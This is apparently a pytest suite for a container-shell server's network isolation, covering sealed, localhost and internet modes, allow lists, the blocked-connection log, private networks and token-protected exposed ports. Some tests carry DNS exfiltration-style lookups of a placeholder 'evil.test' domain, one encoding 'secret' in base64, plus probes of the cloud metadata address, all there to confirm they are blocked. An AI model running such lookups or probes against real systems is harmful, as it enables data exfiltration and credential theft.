"""Network modes, allow lists, the blocked log, private networks and exposed ports, end to end.

A real server with real container shells; "the internet" is ``FakeInternet`` (servers on the
documentation ranges in another netns, routed by the host) and the upstream DNS is a zone server on
loopback, so nothing beyond this machine is ever reached. Every rule is proven with real packets
sent from inside a shell by a small probe script."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dns.rdatatype
import httpx
import pytest

from tests.support.dns_zone_server import ThreadedZone
from tests.support.fake_internet import FakeInternet

from ..support.waiting import wait_until
from .harness import ServerProcess, free_port, running_server
from .rest import ShellMaker, error_of, exec_wait, rest_client, shell_maker

A = dns.rdatatype.A


def zone_of(internet: FakeInternet) -> dict[str, list[tuple[dns.rdatatype.RdataType, int, list[str]]]]:
    """The upstream zone: names that resolve to the fake internet's servers."""
    return {
        "api.example.org": [(A, 60, [internet.b])],
        "*.wild.example.org": [(A, 60, [internet.d])],
        "evil.test": [(A, 60, [internet.c])],
        "*.evil.test": [(A, 60, [internet.c])],
    }


PROBE = r"""
import json, socket, sys
kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
try:
    if kind == "tcp":
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2); s.connect((host, port))
        print("ok", s.recv(200).decode().strip())
    elif kind == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
        s.sendto(b"hi", (host, port)); print("ok", s.recvfrom(200)[0].decode().strip())
    elif kind == "ping":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0)); s.recvfrom(200); print("ok")
    elif kind == "serve":
        s = socket.create_server((host, port))
        while True:
            c, _ = s.accept(); c.sendall(socket.gethostname().encode() + b"\n"); c.close()
    elif kind == "dns":
        print("ok", socket.gethostbyname(host))
except OSError as e:
    print("blocked", type(e).__name__, e.errno)
"""


class Zone(ThreadedZone):
    """The zone server on a free loopback port."""

    def __init__(self, internet: FakeInternet) -> None:
        super().__init__(zone_of(internet), "127.0.0.1", free_port())


@pytest.fixture(scope="module")
def zone(internet: FakeInternet) -> Iterator[Zone]:
    with Zone(internet) as z:
        yield z


@pytest.fixture(scope="module")
def netserver(data_root: Path, internet: FakeInternet, zone: Zone) -> Iterator[ServerProcess]:
    """A server of its own: its shells' DNS goes to the test zone."""
    env = {"SHELLS_DNS_UPSTREAMS": f"127.0.0.1:{zone.port}"}
    with running_server(data_root / "net", warm_pool=0, env=env) as srv:
        yield srv


@pytest.fixture
def net_api(netserver: ServerProcess) -> Iterator[httpx.Client]:
    with rest_client(netserver) as c:
        yield c


@pytest.fixture
def make_net_shell(net_api: httpx.Client) -> Iterator[ShellMaker]:
    with shell_maker(net_api) as m:
        yield m


def probe(net_api: httpx.Client, shell_id: str, kind: str, host: str, port: int = 0) -> str:
    """``ok …`` or ``blocked <error>`` for one attempt made from inside the shell."""
    r = exec_wait(net_api, shell_id, f"python3 /workspace/probe.py {kind} {host} {port}", timeout_s=20)
    return str(r["stdout"]).strip()


def shell_with_probe(make_net_shell: ShellMaker, net_api: httpx.Client, **body: Any) -> dict[str, Any]:
    shell = make_net_shell(language="bash", **body)
    r = net_api.put(
        f"/v1/shells/{shell['id']}/files", params={"path": "/workspace/probe.py"}, content=PROBE.encode()
    )
    assert r.status_code in (200, 201, 204), r.text
    return shell


def blocked_log(
    net_api: httpx.Client, shell_id: str, want: str, timeout_s: float = 10
) -> list[dict[str, Any]]:
    """The shell's blocked list once an entry for destination ``want`` appears in it."""
    deadline = time.monotonic() + timeout_s
    while True:
        blocked = net_api.get(f"/v1/shells/{shell_id}/network").json()["blocked"]
        if (
            any(b["destination"].lower().startswith(want.lower()) for b in blocked)
            or time.monotonic() > deadline
        ):
            return list(blocked)
        time.sleep(0.3)


# modes ----------------------------------------------------------------------------------------------
def test_sealed_reaches_nothing_not_even_loopback(
    net_api: httpx.Client, make_net_shell: ShellMaker, internet: FakeInternet, zone: Zone
) -> None:
    shell = shell_with_probe(make_net_shell, net_api)
    sid = shell["id"]
    assert shell["network"] == {"mode": "sealed", "allow": []}
    for kind, host, port in [
        ("tcp", internet.a, 80),
        ("udp", internet.a, 53),
        ("ping", internet.a, 0),
        ("tcp", "127.0.0.1", 22),
        ("tcp", internet.metadata, 80),
    ]:
        out = probe(net_api, sid, kind, host, port)
        assert out == "blocked OSError 101", (kind, host, out)  # ENETUNREACH: no route at all
    assert probe(net_api, sid, "dns", "secret-data.evil.test").startswith("blocked")
    assert not internet.arrivals(internet.a, 80)
    assert "secret-data.evil.test" not in zone.server.names()


def test_localhost_reaches_itself_only(
    net_api: httpx.Client, make_net_shell: ShellMaker, internet: FakeInternet
) -> None:
    sid = shell_with_probe(make_net_shell, net_api, network="localhost")["id"]
    server = exec_wait(
        net_api,
        sid,
        "nohup python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & "
        "for i in $(seq 50); do curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/ && break; "
        "sleep 0.1; done",
    )
    assert server["stdout"].endswith("200"), server
    assert probe(net_api, sid, "tcp", internet.a, 80).startswith("blocked")


def test_internet_without_list_reaches_public_addresses_only(
    net_api: httpx.Client, make_net_shell: ShellMaker, internet: FakeInternet, netserver: ServerProcess
) -> None:
    sid = shell_with_probe(make_net_shell, net_api, network="internet")["id"]
    other = shell_with_probe(make_net_shell, net_api, network="internet")
    described = net_api.get(f"/v1/shells/{sid}/network").json()
    gateway = described["addresses"]["gateway"]
    other_ip = net_api.get(f"/v1/shells/{other['id']}/network").json()["addresses"]["ipv4"]

    assert probe(net_api, sid, "tcp", internet.a, 80).startswith(f"ok {internet.a}:80")
    assert probe(net_api, sid, "tcp", internet.c, 8080).startswith(f"ok {internet.c}:8080")
    assert probe(net_api, sid, "udp", internet.b, 5353).startswith("ok")
    assert probe(net_api, sid, "ping", internet.b).startswith("ok")
    assert probe(net_api, sid, "dns", "anything.wild.example.org") == f"ok {internet.d}"
    # never: metadata, the host (its API port on the gateway and on its own address), another shell, IPv6
    for host, port in [
        (internet.metadata, 80),
        (gateway, netserver.port),
        ("127.0.0.1", netserver.port),
        (other_ip, 22),
        ("2001:db8::10", 80),
    ]:
        assert probe(net_api, sid, "tcp", host, port).startswith("blocked"), (host, port)
    assert not internet.arrivals(internet.metadata, 80)
    blocked = blocked_log(net_api, sid, internet.metadata)
    entry = next(b for b in blocked if b["destination"] == internet.metadata)
    assert entry["port"] == 80 and entry["protocol"] == "tcp" and entry["count"] >= 1
    events = net_api.get(f"/v1/shells/{sid}/events").json()["events"]
    assert any(e["action"] == "blocked" and e["details"]["destination"] == internet.metadata for e in events)


def test_allow_list_by_ip_cidr_name_and_wildcard(
    net_api: httpx.Client, make_net_shell: ShellMaker, internet: FakeInternet, zone: Zone
) -> None:
    block = internet.addresses.routed[1]  # the /28 of 203.0.113.0/24 that holds c and d
    allow = [f"{internet.a}:80", f"{block}/udp", "api.example.org", "*.wild.example.org:8080"]
    shell = shell_with_probe(make_net_shell, net_api, network={"mode": "internet", "allow": allow})
    sid = shell["id"]
    assert shell["network"]["allow"] == allow
    assert probe(net_api, sid, "tcp", internet.a, 80).startswith("ok")
    assert probe(net_api, sid, "tcp", internet.a, 8080).startswith("blocked")
    assert probe(net_api, sid, "udp", internet.c, 53).startswith("ok")
    assert probe(net_api, sid, "tcp", internet.c, 80).startswith("blocked")
    # a direct connection to the address behind an allowed name, before resolving it: dropped
    assert probe(net_api, sid, "tcp", internet.b, 443).startswith("blocked")
    assert probe(net_api, sid, "dns", "api.example.org") == f"ok {internet.b}"
    assert probe(net_api, sid, "tcp", internet.b, 443).startswith("ok")
    assert probe(net_api, sid, "dns", "x.wild.example.org") == f"ok {internet.d}"
    assert probe(net_api, sid, "tcp", internet.d, 8080).startswith("ok")
    assert probe(net_api, sid, "tcp", internet.d, 80).startswith("blocked")
    # a name not on the list is refused and never asked upstream (no exfiltration through DNS)
    assert probe(net_api, sid, "dns", "c2VjcmV0.evil.test").startswith("blocked")
    assert not any("c2vjcmv0" in n for n in zone.server.names())
    blocked = blocked_log(net_api, sid, "c2VjcmV0.evil.test")
    assert any(
        b["protocol"] == "dns" and b["destination"].lower().startswith("c2vjcmv0.evil.test") for b in blocked
    )
    assert any(b["destination"] == internet.a and b["port"] == 8080 for b in blocked)


def test_policy_changes_live_without_restart(
    internet: FakeInternet, net_api: httpx.Client, make_net_shell: ShellMaker
) -> None:
    sid = shell_with_probe(make_net_shell, net_api)["id"]
    boot = exec_wait(net_api, sid, "cat /proc/1/stat | cut -d' ' -f22")["stdout"]
    assert probe(net_api, sid, "tcp", internet.a, 80).startswith("blocked")
    r = net_api.put(f"/v1/shells/{sid}/network", json={"mode": "internet", "allow": ["198.51.100.0/24"]})
    assert r.status_code == 200, r.text
    assert r.json()["policy"] == {"mode": "internet", "allow": ["198.51.100.0/24"]}
    assert probe(net_api, sid, "tcp", internet.a, 80).startswith("ok")
    assert probe(net_api, sid, "tcp", internet.c, 80).startswith("blocked")
    assert net_api.put(f"/v1/shells/{sid}/network", json={"mode": "sealed"}).status_code == 200
    assert probe(net_api, sid, "tcp", internet.a, 80).startswith("blocked")
    assert exec_wait(net_api, sid, "cat /proc/1/stat | cut -d' ' -f22")["stdout"] == boot
    assert net_api.get(f"/v1/shells/{sid}").json()["network"]["mode"] == "sealed"
    error_of(
        net_api.put(f"/v1/shells/{sid}/network", json={"mode": "internet", "allow": ["http://x"]}),
        400,
        "invalid_request",
    )
    error_of(
        net_api.put(f"/v1/shells/{sid}/network", json={"mode": "sealed", "allow": ["1.2.3.4"]}),
        400,
        "invalid_request",
    )


# private networks ------------------------------------------------------------------------------------
def test_private_networks_connect_members_only(net_api: httpx.Client, make_net_shell: ShellMaker) -> None:
    for name in ("team-a", "team-b"):
        assert net_api.post("/v1/networks", json={"name": name}).status_code == 201
    try:
        x = shell_with_probe(make_net_shell, net_api, name="x", network="localhost", networks=["team-a"])
        y = shell_with_probe(make_net_shell, net_api, name="y", network="internet", networks=["team-a"])
        z = shell_with_probe(make_net_shell, net_api, name="z", network="localhost", networks=["team-b"])
        for s in (x, y, z):
            exec_wait(
                net_api, s["id"], "nohup python3 /workspace/probe.py serve 0.0.0.0 7000 >/dev/null 2>&1 &"
            )
        net = net_api.get("/v1/networks/team-a").json()
        ips = {m["id"]: m["address"] for m in net["shells"]}
        assert probe(net_api, x["id"], "dns", "y") == f"ok {ips[y['id']]}"
        assert probe(net_api, x["id"], "dns", "y.team-a") == f"ok {ips[y['id']]}"
        assert probe(net_api, x["id"], "tcp", ips[y["id"]], 7000).startswith("ok")
        assert probe(net_api, y["id"], "tcp", ips[x["id"]], 7000).startswith("ok")
        assert probe(net_api, z["id"], "tcp", ips[x["id"]], 7000).startswith("blocked")
        assert probe(net_api, z["id"], "dns", "x").startswith("blocked")
        error_of(net_api.delete("/v1/networks/team-a"), 409, "network_in_use")
        # detach live: y no longer reaches x; attach z live: z reaches x
        assert net_api.delete(f"/v1/networks/team-a/shells/{y['id']}").status_code == 204
        assert probe(net_api, y["id"], "tcp", ips[x["id"]], 7000).startswith("blocked")
        r = net_api.post("/v1/networks/team-a/shells", json={"shell_id": z["id"]})
        assert r.status_code == 200, r.text
        assert probe(net_api, z["id"], "tcp", ips[x["id"]], 7000).startswith("ok")
    finally:
        for s in net_api.get("/v1/shells").json()["shells"]:
            net_api.delete(f"/v1/shells/{s['id']}")
        for name in ("team-a", "team-b"):
            net_api.delete(f"/v1/networks/{name}")
    assert net_api.get("/v1/networks").json()["networks"] == []


def test_network_bad_input(net_api: httpx.Client, make_net_shell: ShellMaker) -> None:
    error_of(net_api.post("/v1/networks", json={"name": "Bad Name"}), 400, "invalid_request")
    error_of(net_api.post("/v1/networks", json={"name": "ok", "cidr": "10.0.0.0/8"}), 400, "invalid_request")
    error_of(net_api.get("/v1/networks/nope"), 404, "network_not_found")
    error_of(
        net_api.post("/v1/shells", json={"language": "bash", "network": "localhost", "networks": ["nope"]}),
        404,
        "network_not_found",
    )
    # a sealed shell has no network at all, so it cannot be on a private one
    error_of(
        net_api.post("/v1/shells", json={"language": "bash", "networks": ["dup"]}), 400, "invalid_request"
    )
    assert net_api.post("/v1/networks", json={"name": "dup"}).status_code == 201
    try:
        error_of(net_api.post("/v1/networks", json={"name": "dup"}), 409, "network_exists")
    finally:
        assert net_api.delete("/v1/networks/dup").status_code == 204


# ingress --------------------------------------------------------------------------------------------
def test_exposed_port_needs_its_token_unless_public(
    net_api: httpx.Client, make_net_shell: ShellMaker, netserver: ServerProcess
) -> None:
    sealed = make_net_shell(language="bash")
    error_of(net_api.post(f"/v1/shells/{sealed['id']}/ports", json={"port": 8000}), 409, "invalid_state")
    sid = make_net_shell(language="bash", network="localhost")["id"]
    exec_wait(
        net_api,
        sid,
        "mkdir -p /srv && echo hello-from-the-shell > /srv/index.html && "
        "nohup python3 -m http.server 8000 --bind 127.0.0.1 --directory /srv >/dev/null 2>&1 & "
        "for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.1; done",
    )
    r = net_api.post(f"/v1/shells/{sid}/ports", json={"port": 8000})
    assert r.status_code == 201, r.text
    exposed = r.json()
    token = exposed["token"]
    assert token and not exposed["public"]
    assert exposed["url"] == f"http://8000-{sid}.localhost:{netserver.ingress_port}/"
    assert net_api.get(f"/v1/shells/{sid}/ports").json()["ports"][0]["token"] is None  # shown once

    base = f"http://127.0.0.1:{netserver.ingress_port}"
    host = {"Host": f"8000-{sid}.localhost"}
    with httpx.Client(base_url=base, timeout=10) as web:
        assert web.get("/", headers=host).status_code == 401
        assert web.get("/", headers={**host, "X-Shells-Port-Token": "wrong"}).status_code == 403
        ok = web.get("/", headers={**host, "X-Shells-Port-Token": token})
        assert ok.status_code == 200 and "hello-from-the-shell" in ok.text
        assert web.get(f"/{sid}/8000/", headers={"X-Shells-Port-Token": token}).status_code == 200
        assert web.get("/", headers={"Host": f"8001-{sid}.localhost"}).status_code == 404
        assert net_api.post(f"/v1/shells/{sid}/ports", json={"port": 8000, "public": True}).status_code == 201
        assert web.get("/", headers=host).status_code == 200
        assert net_api.delete(f"/v1/shells/{sid}/ports/8000").status_code == 204
        assert web.get("/", headers=host).status_code == 404
    error_of(net_api.delete(f"/v1/shells/{sid}/ports/8000"), 404, "port_not_exposed")
    error_of(net_api.post(f"/v1/shells/{sid}/ports", json={"port": 70000}), 400, "invalid_request")


def test_teardown_leaves_no_network_objects(
    net_api: httpx.Client, make_net_shell: ShellMaker, netserver: ServerProcess
) -> None:
    import subprocess

    def links() -> set[str]:
        out = subprocess.run(["ip", "-j", "link"], capture_output=True, text=True, check=True).stdout
        return {link["ifname"] for link in json.loads(out)}

    before = links()
    r = net_api.post("/v1/shells", json={"language": "bash", "network": "internet"})
    sid = r.json()["id"]
    assert links() - before, "an internet shell has a host-side veth"
    assert net_api.delete(f"/v1/shells/{sid}").status_code == 204
    wait_until(lambda: links() - before == set(), what="the deleted shell's veth going")
